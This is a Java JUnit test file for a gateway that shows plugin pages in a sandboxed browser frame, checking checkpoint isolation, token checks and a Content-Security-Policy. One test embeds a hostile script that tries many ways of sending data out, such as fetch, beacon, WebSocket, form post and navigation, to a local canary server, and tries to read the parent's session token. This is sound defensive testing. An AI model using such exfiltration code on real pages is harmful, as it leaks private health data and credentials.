// SPDX-FileCopyrightText: 2026 The Dualchip authors
// SPDX-License-Identifier: Apache-2.0
package org.dualchip.gateway;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import io.vertx.core.json.JsonObject;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.http.HttpRequest;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.CopyOnWriteArrayList;
import org.dualchip.link.message.PlaceMessages.AskIntent;
import org.dualchip.link.message.PlaceMessages.MoveInput;
import org.dualchip.link.message.PlaceMessages.Noticed;
import org.dualchip.link.message.PlaceMessages.Order;
import org.dualchip.link.message.PlaceMessages.Shown;
import org.dualchip.plugin.Display;
import org.dualchip.plugin.Intent;
import org.dualchip.plugin.Notice;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Screens of checkpoints in a real browser, with a plugin's page that behaves and one that does not. */
class ScreenTest {
    private static final String PAGE = """
            <!doctype html><html><head><meta charset="utf-8"><title>screen</title>
            <link rel="stylesheet" href="screen.css"><script src="screen.js" defer></script></head>
            <body><p id="shown">waiting</p></body></html>
            """;

    /** Says what it hears, and what it looks like, to its parent, which is the only one it can say anything to. */
    private static final String ECHO = """
            addEventListener('message', ({data}) => {
              if (data.kind === 'display') document.querySelector('#shown').textContent = data.values.allergies;
              const colour = getComputedStyle(document.body).color;
              parent.postMessage({kind: 'report', heard: JSON.stringify(data), colour}, '*');
            });
            """;

    private static @Nullable Browser started;

    private Browser browser;
    private RunningGateway site;

    @BeforeAll
    static void startBrowser() throws Exception {
        started = Browser.start();
    }

    @AfterAll
    static void stopBrowser() {
        if (started != null) started.close();
    }

    @BeforeEach
    void start() throws Exception {
        browser = Objects.requireNonNull(started);
        site = new RunningGateway();
        screen(ECHO);
    }

    @AfterEach
    void stop() {
        site.close();
    }

    private void screen(String script) {
        site.controller.screen.putAll(
                Map.of("index.html", PAGE, "screen.css", "body { color: rgb(1, 2, 3); }", "screen.js", script));
    }

    private void open() throws Exception {
        browser.open("about:blank");
        browser.open(site.uri("/screen/front-door#" + FakeController.TOKEN).toString());
        browser.until("document.querySelector('#live')?.dataset.live === 'live'");
        browser.evaluate("window.reports = []; addEventListener('message', ({data}) => reports.push(data))");
        browser.until("document.querySelector('#page').getAttribute('src')");
    }

    private void display(String checkpoint, String fact) {
        site.controller.tell(new Shown(checkpoint, new Display(Map.of("allergies", fact), Duration.ofSeconds(2))));
    }

    private void untilHeard(String part) throws Exception {
        browser.until("reports.some(({heard}) => heard?.includes(%s))".formatted(quoted(part)));
    }

    private static String quoted(String text) {
        return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'";
    }

    @Test
    void thePluginsPageIsToldWhatHappensAtItsCheckpointAndNowhereElse() throws Exception {
        open();
        untilHeard("\"kind\":\"intents\",\"intents\":[\"deliver\"]");
        display("laboratory", "latex");
        site.controller.tell(Samples.tap("t-8", "bob", "laboratory", Instant.now()));
        display("front-door", "penicillin");
        untilHeard("penicillin");
        site.controller.tell(Samples.tap("t-9", "mallory", "front-door", Instant.now()));
        untilHeard("\"holder\":\"mallory\"");
        site.controller.tell(new Noticed(
                "n-1", Instant.now(), "front-door", "access", Notice.Urgency.ALARM, "FORCED", Map.of("en", "Forced.")));
        untilHeard("\"urgency\":\"alarm\"");
        untilHeard("\"kind\":\"clear\"");
        assertEquals(false, browser.evaluate("JSON.stringify(reports).includes('latex')"));
        assertEquals(false, browser.evaluate("JSON.stringify(reports).includes('bob')"));
        assertEquals("rgb(1, 2, 3)", browser.evaluate("reports.find(({colour}) => colour).colour"));
    }

    @Test
    void thePluginsPageMayAskForAnIntentOfItsCheckpointAndForNoOther() throws Exception {
        screen("""
                addEventListener('message', ({data}) => {
                  if (data.kind !== 'intents') return;
                  parent.postMessage({kind: 'intent', name: 'credit', parameters: {amount: 9}}, '*');
                  parent.postMessage({kind: 'intent', name: 'deliver', parameters: {parcels: 2}}, '*');
                });
                """);
        open();
        RunningGateway.until(() -> !site.controller.deeds.isEmpty());
        var asked = (AskIntent) site.controller.deeds.get(0);
        assertEquals(Intent.of("deliver").with("parcels", 2), asked.intent());
        assertEquals("front-door", asked.checkpoint());
        assertEquals(1, site.controller.deeds.size());
    }

    /** What it shows may be about somebody's health: it must not leave the frame by any way that a page has. */
    @Test
    void aHostilePageReachesNobody() throws Exception {
        var visits = new CopyOnWriteArrayList<String>();
        var canary = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        canary.createContext("/", exchange -> {
            visits.add(exchange.getRequestURI().toString());
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        canary.start();
        try {
            var elsewhere = "http://127.0.0.1:" + canary.getAddress().getPort() + "/";
            screen(hostile(elsewhere));
            open();
            browser.until("reports.some(({done}) => done)");
            var got = String.valueOf(browser.evaluate("JSON.stringify(reports.find(({done}) => done).got)"));
            assertEquals("[]", got, "what a hostile page could do");
            Thread.sleep(500); // Its last attempts are navigations, which say nothing.
            assertEquals(List.of(), visits);
            assertTrue(String.valueOf(browser.evaluate("location.pathname")).endsWith("/screen/front-door"));
            browser.open(elsewhere + "control");
            RunningGateway.until(() -> visits.contains("/control"));
        } finally {
            canary.stop(0);
        }
    }

    private static String hostile(String elsewhere) {
        return """
                const out = '%s';
                const got = [];
                const tried = async (what, attempt) => {
                  try { await attempt(); got.push(what); } catch { /* as it should be */ }
                };
                const loads = (node) => new Promise((ok, no) => {
                  node.onload = ok; node.onerror = no; document.body.append(node); setTimeout(no, 800);
                });
                addEventListener('message', async ({data}) => {
                  if (data.kind !== 'intents') return;
                  await tried('fetch out', () => fetch(out + 'fetch', {mode: 'no-cors'}));
                  await tried('fetch house', () => fetch('/api/house'));
                  await tried('fetch own file', () => fetch('screen.css'));
                  await tried('image', () => loads(Object.assign(new Image(), {src: out + 'image'})));
                  await tried('script', () => loads(Object.assign(document.createElement('script'), {src: out + 's.js'})));
                  await tried('frame', async () => {
                    const frame = document.createElement('iframe'); frame.src = out + 'frame'; document.body.append(frame);
                    throw 0; // The canary tells.
                  });
                  await tried('socket', () => new Promise((ok, no) => {
                    const socket = new WebSocket(out.replace('http', 'ws')); socket.onopen = ok; socket.onerror = no;
                  }));
                  await tried('beacon', () => { navigator.sendBeacon(out + 'beacon'); throw 0; });
                  await tried('parent', () => parent.document.title);
                  await tried('storage', () => localStorage.setItem('a', 'b'));
                  await tried('token', () => parent.sessionStorage.getItem('dualchip-token'));
                  await tried('eval', () => Function('return 1')());
                  await tried('worker', () => new Worker('screen.js'));
                  await tried('window', () => { if (!open(out + 'window')) throw 0; });
                  await tried('top', () => { top.location = out + 'top'; });
                  const form = document.createElement('form'); form.action = out + 'form'; form.method = 'post';
                  document.body.append(form); form.submit();
                  parent.postMessage({kind: 'report', done: true, got}, '*');
                  location = out + 'self?fact=penicillin';
                });
                """.formatted(elsewhere);
    }

    @Test
    void withoutTheTokenAScreenShowsNothing() throws Exception {
        browser.open("about:blank");
        browser.evaluate("sessionStorage.clear()");
        var stream = site.get("/api/checkpoints/front-door/screen");
        assertEquals(401, stream.statusCode());
        var wrong = HttpRequest.newBuilder(site.uri("/api/checkpoints/front-door/screen"))
                .header("Authorization", "Bearer not-the-token");
        assertEquals(401, site.send(wrong).statusCode());
        assertEquals(List.of(), site.controller.watched);
    }

    @Test
    void aFrameIsServedAlone() throws Exception {
        var frame = site.get("/screens/access/index.html");
        var policy = frame.headers().firstValue("Content-Security-Policy").orElseThrow();
        assertTrue(policy.startsWith("sandbox allow-scripts; default-src 'none'; "), policy);
        assertTrue(policy.endsWith("frame-ancestors " + site.uri("")), policy);
        assertEquals(400, site.get("/screens/access/none.html").statusCode());
        assertEquals(404, site.get("/screens/access/index.class").statusCode());
        var host = "Host: 127.0.0.1:" + site.gateway.port();
        assertEquals(200, site.raw("/screens/access/screen.js", host, "Origin: null"));
        assertEquals(403, site.raw("/screens/access/screen.js", host, "Origin: http://elsewhere.example"));
        assertEquals(403, site.raw("/api/house", host, "Origin: null"));
    }

    @Test
    void whatIsShownIsInNoOtherStream() throws Exception {
        display("front-door", "penicillin");
        assertEquals(false, site.get("/api/taps").body().contains("penicillin"));
    }

    @Test
    void ordersAndInputsAreDeedsWithAToken() throws Exception {
        var order = new JsonObject().put("function", "access").put("command", "lockdown");
        order.put("parameters", new JsonObject().put("state", "on"));
        assertEquals(200, site.post("/api/orders", order).statusCode());
        var moved = new JsonObject().put("active", true);
        assertEquals(
                200,
                site.post("/api/checkpoints/front-door/inputs/contact", moved).statusCode());
        assertEquals("gateway", ((Order) site.controller.deeds.get(0)).by());
        assertEquals("contact", ((MoveInput) site.controller.deeds.get(1)).input());
        var type = "application/json";
        assertEquals(401, site.post("/api/orders", order.encode(), "", type).statusCode());
        assertEquals(
                401, site.post("/api/orders", order.encode(), "wrong", type).statusCode());
        assertEquals(400, site.post("/api/orders", new JsonObject()).statusCode());
        assertEquals(
                400, site.post("/api/orders", order.copy().put("holder", 7)).statusCode());
    }
}
